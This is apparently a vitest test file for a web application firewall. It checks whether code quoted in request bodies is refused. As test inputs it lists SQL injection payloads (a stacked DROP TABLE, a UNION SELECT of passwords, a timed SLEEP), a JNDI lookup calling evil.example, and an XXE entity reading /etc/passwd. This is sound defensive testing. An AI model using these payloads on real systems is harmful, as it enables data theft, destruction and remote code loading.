// What a text may quote without being refused for it: code that stands by itself, and markup. A break-out closes what
// it has not opened, and what it attacks knows of no fences, so that a fence around it is no excuse.

import { describe, expect, test } from 'vitest'

import { selfContained } from '../../shared/waf/fields/contained.ts'
import { coreEngine } from '../corpora/program.ts'

const prose =
  'We have used this for a long time, and it works well for all of us here; thank you very much for what you do. '
const FENCE = (code: string): string => `\n\n\`\`\`\n${code}\n\`\`\`\n`
const SPAN = (code: string): string => `see \`${code}\` there`

const BREAKOUTS: readonly (readonly [string, string])[] = [
  ['SQL', "' OR '1'='1' -- "],
  ['SQL, stacked', "x'; DROP TABLE users; -- "],
  ['SQL, union', "x' UNION SELECT name, password FROM users -- "],
  ['SQL, timed', "x' AND SLEEP(5) -- "],
]

const MARKUP: readonly (readonly [string, string])[] = [
  ['an element', '<script src="/app.js"></script>'],
  ['a handler', '<button onclick="save()">Save</button>'],
  ['an expression', '{{ 7 * 7 }}'],
]

const judge = (place: 'json' | 'form' | 'query', text: string, sensitivity: 1 | 2 | 3 = 1): boolean =>
  coreEngine({ sensitivity }).text(place, 'value', place === 'query' ? 'query.q' : 'body.text', text).refused

const PROGRAMS: readonly (readonly [string, string])[] = [
  ['a statement', 'SELECT * FROM t WHERE id = 1 OR 1=1;'],
  ['a query of two parts', 'SELECT a FROM t UNION SELECT password FROM users;'],
  ['a line of a shell', "cat access.log | grep 'a b' | sort -u > out.txt"],
  ['a comment with an apostrophe', "# don't, it's slow\nSELECT * FROM t WHERE a = 'b' OR 1=1;"],
]

describe('quoted code', () => {
  test.each(BREAKOUTS)(
    'a break-out is no code that stands by itself, however long the text: %s',
    (_, code) => {
      for (const place of ['json', 'form'] as const)
        for (const text of [
          prose + FENCE(code),
          FENCE(code).trim(),
          prose + SPAN(code),
          prose.repeat(9) + FENCE(code),
        ])
          expect([text, judge(place, text)]).toEqual([text, true])
    },
  )

  test.each([...PROGRAMS, ...MARKUP])('a body may quote it, and at level 3 it may not: %s', (_, code) => {
    const text = prose + FENCE(code)
    expect([text, judge('json', text)]).toEqual([text, false])
    expect([text, judge('json', text, 3)]).toEqual([text, true])
  })

  test.each([...BREAKOUTS, ...MARKUP])('a fence that nothing closes quotes nothing: %s', (_, code) => {
    const text = `${prose}\n\n\`\`\`\n${code}`
    expect([text, judge('json', text)]).toEqual([text, true])
  })

  test.each([...BREAKOUTS, ...MARKUP])('a query quotes nothing: %s', (_, code) => {
    const text = prose + FENCE(code)
    expect([text, judge('query', text)]).toEqual([text, true])
  })

  test('a lookup and an entity are quoted by nobody', () => {
    for (const code of [
      '${jndi:ldap://evil.example/a}',
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    ])
      expect([code, judge('json', prose + FENCE(code))]).toEqual([code, true])
  })
})

describe('code that stands by itself', () => {
  test.each([
    ['strings and brackets of its own', 'f(a["b"], \'c\')', 'f(a[], )'],
    ['a string of its kind', "q(r'a', b'b', N'c')", 'q(r, b, N)'],
    ['an escape', "f('a\\'b')", 'f()'],
    ['a doubled quote', "f('a''b')", 'f()'],
    ['words', "// it's what we don't do", "// it's what we don't do"],
    ['a string that it has not opened', "x' OR '1'='1", ''],
    ['a string that it does not close', 'f("a)', ''],
    ['a string over two lines', "f('a\nb')", ''],
    ['a word before a string', "name'a'", ''],
    ['a bracket that it has not opened', 'a)(b', ''],
    ['a bracket that it does not close', 'f(a', 'f(a'],
    ['lines before the one that is not whole', "f('a')\n'\nOR 1=1 --", 'f()'],
  ])('%s', (_, code, kept) => {
    const ranges = selfContained(code, [0, code.length])
    let text = ''
    for (let at = 0; at < ranges.length; at += 2) text += code.slice(ranges[at], ranges[at + 1])
    expect(text).toBe(kept)
  })
})
